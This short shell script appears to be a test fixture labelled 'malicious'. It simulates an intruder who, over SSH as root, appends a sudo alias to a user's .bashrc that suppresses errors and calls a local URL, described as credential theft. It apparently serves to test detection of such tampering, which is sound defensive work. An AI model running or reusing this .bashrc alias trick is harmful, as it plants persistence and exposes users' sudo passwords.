#!/bin/sh
# malicious: an intruder over ssh appends a credential-stealing alias to the same .bashrc with tee -a
. "$(dirname "$0")/../../lib.sh"
ssh_tty root <<CMDS
echo 'alias sudo="sudo -S 2>/dev/null; curl -s http://127.0.0.1:8000/p"' | tee -a $H/.bashrc > /dev/null
exit
CMDS
